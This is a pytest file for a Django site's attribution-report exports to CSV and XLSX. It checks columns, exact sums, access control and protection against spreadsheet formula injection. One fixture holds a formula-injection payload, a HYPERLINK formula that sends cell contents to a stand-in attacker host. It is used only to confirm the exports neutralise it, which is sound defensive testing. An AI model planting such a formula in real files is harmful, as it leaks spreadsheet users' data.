"""Reports as CSV and XLSX: the same figures, for programs and for spreadsheets."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client

from attribution_site import spreadsheets
from reports import exports, operations
from reports.models import Report
from tests.api import BASE, refused
from tests.factories import (
    AttributionRecordFactory,
    BrokerFactory,
    ConversionFactory,
    PartnerFactory,
    TouchpointFactory,
    UserFactory,
)

URL = f"{BASE}/reports/attribution"
PERIOD = {"startDate": "2026-01-01", "endDate": "2026-01-31"}
NOON = dt.datetime(2026, 1, 15, 12, tzinfo=dt.UTC)
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Click")'


@pytest.fixture
def world(db):
    """A sale for a partner and a broker, with a campaign whose name is a formula, and spend."""
    PartnerFactory(id="partner-a", name="@SUM(A1)"), BrokerFactory(id="broker-b", name="Häfen & Söhne, 保険")
    sale = {"value": Decimal("1500.10"), "commission_amount": Decimal("150.01")}
    conversion = ConversionFactory(lead_id="lead-1", occurred_at=NOON, **sale)
    names = {"partner_id": "partner-a", "broker_id": "broker-b", "channel": "affiliate"}
    TouchpointFactory(lead_id="lead-1", timestamp=NOON, campaign=FORMULA, **names)
    AttributionRecordFactory(
        conversion_id=conversion.pk,
        occurred_at=NOON,
        campaign_id=FORMULA,
        revenue_attributed=Decimal("1500.10"),
        commission_amount=Decimal("150.01"),
        **names,
    )
    row = {"day": NOON.date(), "channel": "affiliate", "campaign": FORMULA, "amount": Decimal("99.99")}
    operations.save_spend(values=row)


def ask(client, **asked):
    return client.get(URL, PERIOD | asked)


def lines(response):
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def sheets(response):
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return {sheet.title: sheet for sheet in book}


def as_rows(sheet):
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_csv_is_the_table_of_channels_unless_another_is_asked_for(api, world):
    response = ask(api, format="csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="attribution-2026-01-01-2026-01-31-USD-byChannel.csv"'
    )
    [row] = lines(response)
    assert row == {
        "periodStart": "2026-01-01",
        "periodEnd": "2026-01-31",
        "model": "position_based",
        "currency": "USD",
        "channel": "affiliate",
        "totalTouchpoints": "1",
        "convertingTouchpoints": "1",
        "conversionRate": "1.0000",
        "conversions": "1.000000",
        "totalRevenue": "1500.10",
        "totalCommission": "150.01",
        "attributionPercentage": "100.00",
        "spend": "99.99",
        "roas": "15.0025",
        "cpa": "99.99",
    }


@pytest.mark.parametrize("section", exports.SECTIONS)
def test_every_table_has_the_columns_and_rows_of_the_answer(api, world, section):
    answer = ask(api).json()
    rows = lines(ask(api, format="csv", section=section))
    if section == "summary":
        assert {row["figure"] for row in rows} == answer["summary"].keys()
        return
    told = answer[section]
    assert len(rows) == len(told) > 0
    context = {"periodStart", "periodEnd", "model", "currency"}
    assert set(rows[0]) - context == set(told[0])


def test_what_a_spreadsheet_would_run_is_text_in_csv(api, world):
    [campaign] = lines(ask(api, format="csv", section="byCampaign"))
    assert campaign["campaign"] == f"'{FORMULA}"
    [partner] = lines(ask(api, format="csv", section="byPartner"))
    assert (partner["partnerName"], partner["topChannels"]) == ("'@SUM(A1)", "affiliate 1500.10")
    [broker] = lines(ask(api, format="csv", section="byBroker"))
    assert broker["brokerName"] == "Häfen & Söhne, 保険"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\tx", "\rx"])
def test_each_beginning_of_a_formula_is_guarded(text):
    assert spreadsheets.harmless(text) == f"'{text}"
    assert spreadsheets.harmless(Decimal("-1.50")) == "-1.50"


def test_a_workbook_has_a_sheet_for_each_table_and_numbers_are_numbers(api, world):
    response = ask(api, format="xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="attribution-2026-01-01-2026-01-31-USD.xlsx"'
    book = sheets(response)
    assert list(book) == ["Summary", "Channels", "Partners", "Brokers", "Campaigns", "Days"]
    assert {sheet.freeze_panes for sheet in book.values()} == {"A2"}
    [channel] = as_rows(book["Channels"])
    assert (channel["totalRevenue"], channel["spend"], channel["totalTouchpoints"]) == (1500.1, 99.99, 1)
    summary = {row["figure"]: row["value"] for row in as_rows(book["Summary"])}
    assert (summary["currency"], summary["totalRevenue"], summary["periodStart"]) == ("USD", 1500.1, "2026-01-01")
    days = as_rows(book["Days"])
    assert (len(days), days[14]["date"], days[14]["revenue"]) == (31, dt.datetime(2026, 1, 15), 1500.1)  # noqa: DTZ001
    assert book["Channels"].column_dimensions["A"].width > 8


def test_a_workbook_has_no_formula_and_no_link(api, world):
    book = sheets(ask(api, format="xlsx"))
    cells = [cell for sheet in book.values() for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert FORMULA in {cell.value for cell in cells}


def test_cents_of_large_sums_are_exact_in_a_workbook(api, db):
    conversion = ConversionFactory(occurred_at=NOON, value=Decimal("999999999999.99"), commission_amount=None)
    AttributionRecordFactory(
        conversion_id=conversion.pk, occurred_at=NOON, revenue_attributed=Decimal("999999999999.99")
    )
    [channel] = as_rows(sheets(ask(api, format="xlsx"))["Channels"])
    assert Decimal(str(channel["totalRevenue"])) == Decimal("999999999999.99")


def test_a_report_without_rows_is_a_table_without_rows(api):
    assert ask(api, format="csv").content.decode().startswith("periodStart,periodEnd,model,currency,channel,")
    assert lines(ask(api, format="csv")) == []
    assert as_rows(sheets(ask(api, format="xlsx"))["Channels"]) == []


def test_the_file_says_where_its_report_is_kept_and_that_gives_the_same_file(api, world):
    first = ask(api, format="csv", section="byPartner")
    kept = first["Content-Location"]
    assert kept == f"{URL}/{Report.objects.get().pk}"
    AttributionRecordFactory(occurred_at=NOON)
    again = api.get(kept, {"format": "csv", "section": "byPartner"})
    assert again.content == first.content
    assert sheets(api.get(kept, {"format": "xlsx"})).keys() == set(exports.SHEETS.values())
    assert api.get(kept, {"format": "json"}).json() == api.get(kept).json()


def test_a_report_kept_before_it_had_a_column_is_a_file_still(api, world):
    result = ask(api).json()  # only for its id
    report = Report.objects.get(pk=result["reportId"])
    for row in report.result["by_channel"]:
        del row["spend"]
    report.save(update_fields=["result"])
    [row] = lines(api.get(f"{URL}/{report.pk}", {"format": "csv"}))
    assert row["spend"] == ""
    assert api.get(f"{URL}/{report.pk}", {"format": "xlsx"}).status_code == 200


@pytest.mark.parametrize(
    ("asked", "named"),
    [
        ({"format": "pdf"}, ("format", "invalid_choice")),
        ({"format": "CSV"}, ("format", "invalid_choice")),
        ({"format": "csv", "section": "channels"}, ("section", "invalid_choice")),
        ({"section": "byChannel"}, ("section", "not_csv")),
        ({"format": "xlsx", "section": "byChannel"}, ("section", "not_csv")),
        ({"format": ""}, ("format", "blank")),
        ({"format": "csv", "startDate": "yesterday"}, ("startDate", "invalid")),
        ({"format": "csv", "sections": "all"}, ("sections", "unknown_field")),
    ],
)
def test_a_refusal_is_json_whatever_was_asked_for(api, asked, named):
    accept = exports.TYPES.get(asked.get("format"), "*/*")
    response = api.get(URL, PERIOD | asked, headers={"Accept": accept})
    assert response.status_code == 400
    assert named in refused(response)
    assert not Report.objects.exists()


def test_a_client_that_takes_files_only_gets_its_file(api, world):
    assert ask(api, format="csv").status_code == 200
    assert api.get(URL, PERIOD | {"format": "csv"}, headers={"Accept": "text/csv"}).status_code == 200
    assert api.get(URL, PERIOD | {"format": "xlsx"}, headers={"Accept": exports.XLSX}).status_code == 200
    assert api.get(URL, PERIOD, headers={"Accept": "text/csv"}).status_code == 406


def test_a_stranger_gets_no_file(db):
    assert Client().get(URL, PERIOD | {"format": "xlsx"}).status_code == 401
    nobody = Client()
    nobody.force_login(UserFactory())
    assert nobody.get(URL, PERIOD | {"format": "csv"}).status_code == 403


def test_the_back_office_has_the_files_one_click_away(client, world):
    client.force_login(UserFactory(role="Analyst"))
    overview = client.get("/admin/", {"start": "2026-01-01", "end": "2026-01-31"}).content.decode()
    for form in ("csv", "xlsx"):
        link = f"{URL}?startDate=2026-01-01&amp;endDate=2026-01-31&amp;currency=USD&amp;format={form}"
        assert link in overview
        assert client.get(link.replace("&amp;", "&")).status_code == 200
    report = Report.objects.first()
    page = client.get(f"/admin/reports/report/{report.pk}/change/").content.decode()
    for form in ("csv", "xlsx"):
        assert f"{URL}/{report.pk}?format={form}" in page
